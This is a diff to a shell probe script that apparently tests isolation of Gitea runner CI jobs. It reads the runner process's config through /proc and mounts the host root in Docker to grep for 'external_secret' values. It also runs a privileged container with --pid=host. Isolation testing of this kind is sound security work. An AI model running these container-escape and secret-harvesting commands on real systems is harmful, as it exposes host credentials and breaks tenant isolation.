@@ -74,7 +74,8 @@ if [ -z "$runner" ]; then echo "PROBE runner process: not visible"; else
   echo "PROBE runner fds: $(ls -l /proc/$runner/fd 2>&1 | tr '\n' ' ' | head -c 300)"
   echo "PROBE runner root: $(cat /proc/$runner/root/etc/gitea-runner-operator/config/* 2>&1)"
 fi
-sh -c 'marker=gro-control-marker-1; sleep 30' </dev/null >/dev/null 2>&1 & ctl=$!
+# not last in its script, or busybox's sh would exec sleep and drop the marker
+sh -c 'marker=gro-control-marker-1; sleep 30; :' </dev/null >/dev/null 2>&1 & ctl=$!
 sleep 1
 echo "PROBE control memory: $(scan $ctl gro-control-marker)"
 kill $ctl
@@ -98,7 +99,7 @@ echo "PROBE docker root: $(docker run --rm -v /:/host $B sh -c \
    -type f -size -1024k -exec grep -hos "external_secret: *.\?[0-9a-f]\{8,\}" {} + \
    2>/dev/null | head -n 3' 2>&1)"
 docker run --rm --privileged --pid=host -e PROBE="$PROBE" $B sh -c 'eval "$PROBE"' 2>&1 |
-  sed 's/^PROBE /PROBE via docker --pid=host: /'
+  sed 's/^PROBE //; s/^/PROBE via docker --privileged --pid=host: /'
 """
 
 # The cache API as actions/cache speaks it, over busybox's nc (the DinD jobs' image has
